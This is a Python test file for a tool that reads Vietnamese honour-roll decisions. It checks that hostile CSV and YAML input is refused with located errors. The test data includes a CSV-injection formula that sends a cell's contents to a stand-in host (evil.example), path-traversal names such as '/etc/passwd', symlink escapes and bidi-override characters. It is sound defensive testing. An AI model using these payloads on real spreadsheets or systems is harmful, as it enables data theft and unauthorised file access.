"""Honour rolls read as a careless editor or a hostile contributor writes them (issue 8).

Every input gives either a clean read or located problems: rows are never
swallowed, outside files never read, formulas, hidden characters and
personal data never published, and no rule hangs on a long field.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from bangvang.core.directives import Registry
from bangvang.core.honours.reader import read_decision
from bangvang.core.honours.rolls import load_rolls
from bangvang.core.problems import Problem, Severity
from conftest import HANG_GUARD_SECONDS, Site
from test_honours_reader import DECISION, HEADER, write
from test_mentions import directive

ROW = "{stt},gia_dinh,Gia đình ông Nguyễn Văn {stt},,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh\n"


def csv_decision(root: Path, rows: str, name: str = "qd-1") -> Path:
    """Write a decision with a CSV list; return the YAML path."""
    path = write(root, f"honours/{name}.yaml", DECISION + f"entries_csv: {name}.csv\n")
    (root / f"honours/{name}.csv").write_text(HEADER + rows, encoding="utf-8", newline="")
    return path


def inline_decision(root: Path, entry: str, head: str = DECISION, name: str = "qd-1") -> Path:
    """Write a decision with one inline entry (YAML flow mapping text); return its path."""
    return write(root, f"honours/{name}.yaml", head + f"entries:\n  - {entry}\n")


def rolls_of(root: Path) -> list[Problem]:
    registry = Registry()
    registry.add(directive("281/QĐ-TTg", "Quyết định", "Thủ tướng Chính phủ", "2014-02-20"))
    return load_rolls(root / "honours", root, registry, published=set()).problems


def at(problems: list[Problem], path: str, line: int) -> list[str]:
    return [p.message for p in problems if p.path == path and p.line == line]


# Point 5: CSV that lies.


def test_stray_quote_is_located_and_later_rows_are_still_read(tmp_path: Path) -> None:
    rows = "".join(ROW.format(stt=n) for n in range(1, 8))
    lines = rows.splitlines(keepends=True)
    lines[2] = lines[2].replace(",Tỉnh Hà Tĩnh", ',"Tỉnh Hà Tĩnh')
    lines[5] = lines[5].replace("gia_dinh", "gia_dinhh")  # row 6 (line 7) must still be read and judged
    path = csv_decision(tmp_path, "".join(lines))
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert [(p.path, p.line) for p in problems] == [("honours/qd-1.csv", 4), ("honours/qd-1.csv", 7)]
    assert "dấu ngoặc kép" in problems[0].message and "mở ở dòng này" in problems[0].message
    assert "'kind' không hợp lệ" in problems[1].message


def test_stray_quote_in_a_long_file_is_no_traceback(tmp_path: Path) -> None:
    rows = "".join(ROW.format(stt=n) for n in range(1, 5001)).replace(",Tỉnh Hà Tĩnh", ',"Tỉnh Hà Tĩnh', 3)
    path = csv_decision(tmp_path, rows)
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert [(p.path, p.line) for p in problems] == [("honours/qd-1.csv", n) for n in (2, 3, 4)]


def test_field_spanning_lines_is_an_error_at_the_row_where_the_quote_opened(tmp_path: Path) -> None:
    rows = ROW.format(stt=1) + '2,gia_dinh,"Gia đình ông\nLê Văn Hai",,,,Xã A,,Tỉnh B\n' + ROW.format(stt=3)
    path = csv_decision(tmp_path, rows)
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert [p.line for p in problems][:1] == [3]
    assert "dấu ngoặc kép" in problems[0].message
    assert all(p.line != 5 for p in problems), "the row after the broken one reads on its own"


def test_every_physical_row_is_an_entry_or_a_problem(tmp_path: Path) -> None:
    rows = ROW.format(stt=1) + '2,gia_dinh,"Gia đình ông Hai,,,,Xã A,,Tỉnh B\n' + ROW.format(stt=3)
    rows += '4,gia_dinh,"Gia đình "ông" Bốn",,,,Xã A,,Tỉnh B\n'
    path = csv_decision(tmp_path, rows)
    from bangvang.core.honours.csvlist import read_csv
    from bangvang.core.honours.entries import Rows

    rows_seen = Rows("honours/qd-1.csv", None)
    read_csv(tmp_path / "honours/qd-1.csv", rows_seen)
    kept = {e.line for e in rows_seen.entries}
    flagged = {p.line for p in rows_seen.log.report()}
    assert kept | flagged == {2, 3, 4, 5}, (kept, flagged)
    assert path.exists()


def test_header_only_csv_warns_that_the_decision_lists_nothing(tmp_path: Path) -> None:
    path = csv_decision(tmp_path, "")
    decision, problems = read_decision(path, tmp_path)
    assert decision is not None and decision.entries == ()
    assert [str(p) for p in problems] == [
        "honours/qd-1.csv:1: cảnh báo: quyết định không có mục nào (tệp chỉ có dòng tiêu đề)"
    ]


def test_empty_inline_list_warns_that_the_decision_lists_nothing(tmp_path: Path) -> None:
    path = write(tmp_path, "honours/qd-1.yaml", DECISION + "entries: []\n")
    decision, problems = read_decision(path, tmp_path)
    assert decision is not None
    assert [str(p) for p in problems] == [
        "honours/qd-1.yaml:9: cảnh báo: quyết định không có mục nào ('entries' là danh sách rỗng)"
    ]


def test_ten_thousand_unknown_columns_give_a_bounded_report(tmp_path: Path) -> None:
    header = HEADER.rstrip("\n") + "".join(f",cot_{n}" for n in range(10_000)) + "\n"
    write(tmp_path, "honours/qd-1.yaml", DECISION + "entries_csv: qd-1.csv\n")
    (tmp_path / "honours/qd-1.csv").write_text(header, encoding="utf-8")
    problems = [p for p in rolls_of(tmp_path) if p.path == "honours/qd-1.csv"]
    assert len(problems) == 51
    assert problems[-1].message.startswith("còn 9.950 vấn đề khác trong tệp này")
    assert problems[-1].severity is Severity.ERROR


def test_many_bad_rows_give_a_bounded_report_kept_bounded_at_the_source(tmp_path: Path) -> None:
    bad = "".join(f"{n},gia_dinhh,Gia đình {n},,,,Xã A,,Tỉnh B\n" for n in range(1, 20_001))
    csv_decision(tmp_path, bad)
    from bangvang.core.honours.csvlist import read_csv
    from bangvang.core.honours.entries import Rows

    rows = Rows("honours/qd-1.csv", None)
    read_csv(tmp_path / "honours/qd-1.csv", rows)
    assert len(rows.log.kept) == 50 and rows.log.errors == 20_000
    problems = [p for p in rolls_of(tmp_path) if p.path == "honours/qd-1.csv"]
    assert [p.line for p in problems[:3]] == [2, 3, 4]
    assert len(problems) == 51 and problems[-1].message.startswith("còn 19.950 vấn đề khác trong tệp này (từ dòng 52)")


def test_problem_cap_keeps_files_apart_and_merges_counts() -> None:
    from bangvang.core.problems import FileProblems, cap_per_file

    log = FileProblems("a.csv", limit=2)
    for line in range(1, 6):
        log.add(line, f"lỗi {line}")
    mixed = [*log.report(), Problem("a.csv", 9, "thêm"), Problem("b.yaml", 1, "khác")]
    capped = cap_per_file(mixed, limit=2)
    assert [str(p) for p in capped][:2] == ["a.csv:1: lỗi 1", "a.csv:2: lỗi 2"]
    assert capped[2] == Problem("b.yaml", 1, "khác")
    assert capped[3].path == "a.csv" and capped[3].message.startswith("còn 4 vấn đề khác trong tệp này (từ dòng 3)")


# Point 6: no formulas in names, places and titles.


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
@pytest.mark.parametrize("column", [2, 5, 6])  # name, village, commune
def test_formula_lead_is_refused_in_csv(tmp_path: Path, lead: str, column: int) -> None:
    cells = ROW.format(stt=1).rstrip("\n").split(",")
    cells[column] = lead + cells[column]
    path = csv_decision(tmp_path, ",".join(cells) + "\n")
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert any(f"bắt đầu bằng '{lead}'" in m and "công thức" in m for m in at(problems, "honours/qd-1.csv", 2))


def test_hyperlink_formula_of_the_issue_is_refused(tmp_path: Path) -> None:
    cell = '"=HYPERLINK(""http://evil.example/?x=""&A2,""Bấm"")"'
    path = csv_decision(tmp_path, f"1,gia_dinh,{cell},,,,Xã A,,Tỉnh B\n")
    _, problems = read_decision(path, tmp_path)
    assert any("bắt đầu bằng '='" in m for m in at(problems, "honours/qd-1.csv", 2))


@pytest.mark.parametrize("lead", ["\t", "\r"])
def test_tab_or_cr_lead_is_refused(tmp_path: Path, lead: str) -> None:
    path = csv_decision(tmp_path, f'1,gia_dinh,"{lead}=1+1",,,,Xã A,,Tỉnh B\n')
    _, problems = read_decision(path, tmp_path)
    assert at(problems, "honours/qd-1.csv", 2), "refused at its row"


@pytest.mark.parametrize(
    ("key", "line", "text"),
    [("title", 6, 'title: "=1+2"\n'), ("issuer.name", 3, 'issuer: {name: "@SUM(A1)", level: tinh}\n')],
)
def test_formula_lead_is_refused_in_decision_text(tmp_path: Path, key: str, line: int, text: str) -> None:
    head = "".join(text if ln.startswith(key.split(".")[0] + ":") else ln for ln in DECISION.splitlines(True))
    path = inline_decision(tmp_path, "{stt: 1, kind: gia_dinh, name: A, commune: Xã A, province: Tỉnh B}", head)
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert any("công thức" in m for m in at(problems, "honours/qd-1.yaml", line)), problems


# Point 7: nothing from outside the repository.


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the site, holding files whose content must never be read or quoted."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "x.csv").write_text("SECRET-HEADER,b\nSECRET-ROW,2\n", encoding="utf-8")
    (folder / "x.yaml").write_text("SECRET: [unclosed\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize("name", ["../../outside/x.csv", "../outside/x.csv", "/etc/passwd", "sub/qd-1.csv", "x.CSV"])
def test_entries_csv_must_be_a_file_beside_the_decision(tmp_path: Path, outside: Path, name: str) -> None:
    site = tmp_path / "site"
    path = write(site, "honours/qd-1.yaml", DECISION + f"entries_csv: {name}\n")
    write(site, "honours/sub/qd-1.csv", HEADER + ROW.format(stt=1))
    decision, problems = read_decision(path, site)
    assert decision is None
    assert [p.line for p in problems] == [9]
    assert "'entries_csv' phải là tên một tệp .csv đặt cạnh tệp quyết định" in problems[0].message
    assert not any("SECRET" in p.message or "root:" in p.message for p in problems)


def test_symlinks_leading_out_of_the_repository_are_never_read(tmp_path: Path, outside: Path) -> None:
    site = tmp_path / "site"
    write(site, "honours/qd-1.yaml", DECISION + "entries_csv: qd-1.csv\n")
    os.symlink(outside / "x.csv", site / "honours/qd-1.csv")
    os.symlink(outside / "x.yaml", site / "honours/qd-2.yaml")
    os.symlink(outside / "x.csv", site / "honours/lac.csv")
    os.symlink(outside, site / "honours/thu-muc")
    problems = sorted(rolls_of(site))
    assert [(p.path, p.line, p.severity) for p in problems] == [
        ("honours/lac.csv", 1, Severity.ERROR),
        ("honours/qd-1.yaml", 9, Severity.ERROR),
        ("honours/qd-2.yaml", 1, Severity.ERROR),
        ("honours/thu-muc", 1, Severity.ERROR),
    ]
    assert all("symlink" in p.message for p in problems)
    assert not any("SECRET" in p.message for p in problems)


def test_honours_folder_leading_out_of_the_repository_is_never_read(tmp_path: Path, outside: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    os.symlink(outside, site / "honours")
    problems = rolls_of(site)
    assert [(p.path, p.line) for p in problems] == [("honours", 1)] and "symlink" in problems[0].message


# Point 10: no regex that can hang.


def _timed_read(root: Path, path: Path) -> tuple[float, list[Problem]]:
    start = time.perf_counter()
    problems = rolls_of(root)
    return time.perf_counter() - start, [p for p in problems if p.path.startswith("honours/")]


@pytest.mark.parametrize("where", ["yaml", "csv", "csv-130k"])
def test_megabyte_fields_finish_quickly_with_a_located_message(tmp_path: Path, where: str) -> None:
    huge = "A" * 1_000_000 + " 1234"
    if where == "yaml":
        path = inline_decision(tmp_path, f'{{stt: 1, kind: gia_dinh, name: "{huge}", commune: Xã A, province: T}}')
        title = path.read_text(encoding="utf-8").replace('title: "Gia đình', f'title: "{"B" * 1_000_000} 5678 Gia đình')
        path.write_text(title, encoding="utf-8")
    elif where == "csv":
        path = csv_decision(tmp_path, f"1,gia_dinh,{huge},,,,Xã A,,Tỉnh B\n2,gia_dinh,A,,{'b' * 130_000},,X,,T\n")
    else:  # under the csv module's field limit: the text rules themselves must stay linear
        path = csv_decision(tmp_path, f"1,gia_dinh,{'a' * 130_000} 1234,,,,Xã A,,Tỉnh B\n")
    elapsed, problems = _timed_read(tmp_path, path)
    assert elapsed < HANG_GUARD_SECONDS, f"{elapsed:.1f} s"
    assert problems and all(len(p.message) < 400 for p in problems)
    assert any("quá giới hạn 300" in p.message or "có ô dài hơn" in p.message for p in problems)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("form: cong_nhan", "form: {big}"),
        ("level: tinh", "level: {big}"),
        ("signed: 2020-09-30", "signed: {big}"),
        ('period: "2016-2020"', 'period: "{big}"'),
        ('basis: ["281/QĐ-TTg"]', 'basis: ["{big}"]'),
        ("sample: true", "sample: {big}"),
        ("sample: true", "article: {big}"),
        ("sample: true", 'aliases: ["{big}"]'),
    ],
)
def test_megabyte_decision_values_are_never_echoed(tmp_path: Path, old: str, new: str) -> None:
    head = DECISION.replace(old, new.format(big="x" * 1_000_000))
    path = inline_decision(tmp_path, "{stt: 1, kind: gia_dinh, name: A, commune: Xã A, province: Tỉnh B}", head)
    start = time.perf_counter()
    decision, problems = read_decision(path, tmp_path)
    assert time.perf_counter() - start < HANG_GUARD_SECONDS
    assert decision is None and problems
    assert all(len(p.message) < 400 for p in problems), [len(p.message) for p in problems]


def test_name_longer_than_300_characters_is_refused(tmp_path: Path) -> None:
    path = csv_decision(tmp_path, f"1,gia_dinh,{'Nguyễn ' * 50},,,,Xã A,,Tỉnh B\n")
    _, problems = read_decision(path, tmp_path)
    assert at(problems, "honours/qd-1.csv", 2) == [
        "'name' dài 350 ký tự, quá giới hạn 300: có vẻ dán nhầm cả đoạn văn; chỉ ghi đúng tên như in trên quyết định"
    ]


# Point 11: invisible and spoofing characters.


@pytest.mark.parametrize(
    "code",
    # The issue's list, then other control characters.
    [
        0x202A,
        0x202B,
        0x202C,
        0x202D,
        0x202E,
        0x2066,
        0x2067,
        0x2068,
        0x2069,
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0xFEFF,
        0x07,
        0x1B,
        0x85,
    ],
)
@pytest.mark.parametrize("column", [2, 4, 6])  # name, title, commune
def test_hidden_characters_are_refused_naming_the_code_point(tmp_path: Path, code: int, column: int) -> None:
    cells = ROW.format(stt=1).rstrip("\n").split(",")
    cells[column] = (cells[column] or "Danh hiệu") + chr(code) + "x"
    path = csv_decision(tmp_path, ",".join(cells) + "\n")
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert any(f"có ký tự ẩn U+{code:04X}" in m for m in at(problems, "honours/qd-1.csv", 2)), problems


def test_hidden_character_in_decision_title_is_refused(tmp_path: Path) -> None:
    head = DECISION.replace('title: "Gia đình', 'title: "Gia\u202eđình')
    path = inline_decision(tmp_path, "{stt: 1, kind: gia_dinh, name: A, commune: Xã A, province: Tỉnh B}", head)
    _, problems = read_decision(path, tmp_path)
    assert any("U+202E" in m for m in at(problems, "honours/qd-1.yaml", 6))


def test_eth_in_place_of_d_stroke_is_a_warning(tmp_path: Path) -> None:
    path = csv_decision(tmp_path, "1,gia_dinh,Gia đình ông \u00d0ỗ Văn An,,,,Xã A,,Tỉnh B\n")
    decision, problems = read_decision(path, tmp_path)
    assert decision is not None and len(decision.entries) == 1
    assert [(p.line, p.severity) for p in problems] == [(2, Severity.WARNING)]
    assert "U+00D0" in problems[0].message


# Point 9: the privacy guard covers the decision's own text too.


@pytest.mark.parametrize(
    ("old", "new", "line"),
    [
        ('title: "Gia đình', 'title: "CCCD 038095001234 Gia đình', 6),
        ('name: "Ủy ban', 'name: "SĐT 0912 345 678 Ủy ban', 3),
        ('number: "1234/QĐ-UBND"', 'number: "1234/QĐ-UBND"\naliases: ["an.nguyen(at)gmail.com"]', 2),
    ],
)
def test_privacy_guard_covers_decision_fields(tmp_path: Path, old: str, new: str, line: int) -> None:
    head = DECISION.replace(old, new)
    path = inline_decision(tmp_path, "{stt: 1, kind: gia_dinh, name: A, commune: Xã A, province: Tỉnh B}", head)
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert any("dữ liệu cá nhân" in m for m in at(problems, "honours/qd-1.yaml", line)), problems


# Point 12: no traceback and no garbage accepted.


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("level: tinh", "level: [tinh]"),
        ("level: tinh", "level: {a: 1}"),
        ("form: cong_nhan", "form: {}"),
        ("form: cong_nhan", "form: [giay_khen]"),
        ('period: "2016-2020"', 'period: "2020-1999"'),
        ('period: "2016-2020"', "period: [2020]"),
        ('period: "2016-2020"', 'period: "0000"'),
        ("signed: 2020-09-30", "signed: 2020-02-30"),
        ("signed: 2020-09-30", "signed: 2020-9-30"),
        ("signed: 2020-09-30", "signed: 2020-09-30 10:00"),
        ('issuer: {name: "Ủy ban nhân dân tỉnh Hà Tĩnh", level: tinh}', "issuer:"),
        ('number: "1234/QĐ-UBND"', "number: 1234"),
        ('title: "Gia đình học tập tiêu biểu xuất sắc"', "title: true"),
        ('basis: ["281/QĐ-TTg"]', 'basis: ["281/QĐ-TTg", "281/QĐ-TTg"]'),
        ('basis: ["281/QĐ-TTg"]', "basis: [332]"),
    ],
)
def test_garbage_in_decision_keys_is_a_located_error(tmp_path: Path, old: str, new: str) -> None:
    assert old in DECISION
    path = inline_decision(
        tmp_path, "{stt: 1, kind: gia_dinh, name: A, commune: Xã A, province: Tỉnh B}", DECISION.replace(old, new)
    )
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert problems and all(p.path == "honours/qd-1.yaml" and 1 <= p.line <= 9 for p in problems), problems


@pytest.mark.parametrize(
    "entry",
    [
        "{stt: 1, kind: [gia_dinh], name: A, commune: X, province: T}",
        "{stt: 1, kind: {}, name: A, commune: X, province: T}",
        "{stt: 1.5, kind: gia_dinh, name: A, commune: X, province: T}",
        "{stt: 0x10, kind: gia_dinh, name: A, commune: X, province: T}",
        "{stt: 1_000, kind: gia_dinh, name: A, commune: X, province: T}",
        "{stt: '٣', kind: gia_dinh, name: A, commune: X, province: T}",
        "{stt: '²', kind: gia_dinh, name: A, commune: X, province: T}",
        "{stt: 1, kind: gia_dinh, name: yes, commune: X, province: T}",
        "{stt: 1, kind: gia_dinh, name: true, commune: X, province: T}",
        "{stt: 1, kind: gia_dinh, name: 2020-01-01, commune: X, province: T}",
        "{stt: 1, kind: gia_dinh, name: 12, commune: X, province: T}",
        "{stt: 1, stt: 2, kind: gia_dinh, name: A, commune: X, province: T}",
    ],
)
def test_garbage_in_inline_entries_is_a_located_error(tmp_path: Path, entry: str) -> None:
    path = inline_decision(tmp_path, entry)
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert [(p.path, p.line) for p in problems][:1] == [("honours/qd-1.yaml", 10)], problems


@pytest.mark.parametrize("stt", ["1.5", "0x10", "+1", "-1", "١٢", "²", "9" * 5000, " ", "1e3"])
def test_garbage_stt_in_csv_is_a_located_error(tmp_path: Path, stt: str) -> None:
    path = csv_decision(tmp_path, f"{stt},gia_dinh,Gia đình A,,,,Xã A,,Tỉnh B\n")
    decision, problems = read_decision(path, tmp_path)
    assert decision is None
    assert [(p.path, p.line) for p in problems] == [("honours/qd-1.csv", 2)], problems


# Point 13: messages that do not mislead.


def test_error_in_decision_yaml_does_not_call_its_csv_a_stray(tmp_path: Path) -> None:
    for name, head in (("qd-1", DECISION.replace("form: cong_nhan", "form: khen")), ("qd-2", "number: [\n")):
        write(tmp_path, f"honours/{name}.yaml", head + f"entries_csv: {name}.csv\n")
        write(tmp_path, f"honours/{name}.csv", HEADER + ROW.format(stt=1))
    write(tmp_path, "honours/qd-3.yaml", DECISION + "entries: []\n")  # a valid decision with its own list
    write(tmp_path, "honours/qd-3.csv", HEADER)
    problems = rolls_of(tmp_path)
    assert [str(p) for p in problems if "không thuộc quyết định nào" in p.message] == [
        "honours/qd-3.csv:1: cảnh báo: tệp danh sách không thuộc quyết định nào (không có tệp .yaml nào ghi "
        "'entries_csv' tới nó)"
    ]
    assert {p.path for p in problems} == {
        "honours/qd-1.yaml",
        "honours/qd-2.yaml",
        "honours/qd-3.yaml",
        "honours/qd-3.csv",
    }


def test_binary_yml_is_not_told_to_save_as_csv(tmp_path: Path) -> None:
    (tmp_path / "honours").mkdir()
    (tmp_path / "honours/anh.yml").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe")
    (tmp_path / "honours/cu.yaml").write_bytes(b"number: 'Ho\xe0 \xf0'\n")
    problems = sorted(rolls_of(tmp_path))
    assert [(p.path, p.line) for p in problems] == [("honours/anh.yml", 3), ("honours/cu.yaml", 1)]
    assert not any("CSV" in p.message for p in problems), problems
    assert "nhị phân" in problems[0].message
    assert problems[1].message == (
        "tệp không phải UTF-8 (có thể là Windows-1258 hay bảng mã cũ TCVN3/VNI); lưu lại với bảng mã UTF-8, hoặc "
        "để lệnh 'bangvang nhap' lập tệp quyết định từ bảng tính gốc"
    )


def test_utf16_files_are_told_to_save_as_utf8(tmp_path: Path) -> None:
    write(tmp_path, "honours/qd-1.yaml", DECISION + "entries_csv: qd-1.csv\n")
    (tmp_path / "honours/qd-1.csv").write_bytes((HEADER + ROW.format(stt=1)).encode("utf-16"))
    (tmp_path / "honours/qd-2.yaml").write_bytes(DECISION.encode("utf-16"))
    problems = sorted(rolls_of(tmp_path))
    assert [(p.path, p.line) for p in problems] == [("honours/qd-1.csv", 1), ("honours/qd-2.yaml", 1)]
    assert all("UTF-16" in p.message for p in problems), problems


# End to end: `bangvang check` and `mkdocs build` see the same located, bounded problems.


def test_check_and_build_stop_on_a_stray_quote_with_a_bounded_report(site: Site) -> None:
    from test_honours_build import roll, row

    rows = [row(n, f"Gia đình ông Nguyễn Văn {n}") for n in range(1, 8)]
    rows[2] = rows[2].replace(",Tỉnh Hà Tĩnh", ',"Tỉnh Hà Tĩnh')
    rows += [f"{n},gia_dinhh,Gia đình ông Lê {n},,,Thôn 1,Xã A,Huyện B,Tỉnh C" for n in range(8, 208)]
    roll(site, "qd-1", "1/QĐ-UBND", rows)
    check = site.check()
    assert check.code == 1
    found = [line for line in check.output.splitlines() if line.startswith("honours/qd-1.csv:")]
    assert found[0].startswith('honours/qd-1.csv:4: dấu ngoặc kép (") mở ở dòng này')
    assert len(found) == 51 and found[-1].startswith("honours/qd-1.csv:58: còn 151 vấn đề khác trong tệp này")
    build = site.build()
    assert build.code != 0 and "honours/qd-1.csv:4: dấu ngoặc kép" in build.output
    assert "còn 151 vấn đề khác" in build.output and "Traceback" not in build.output
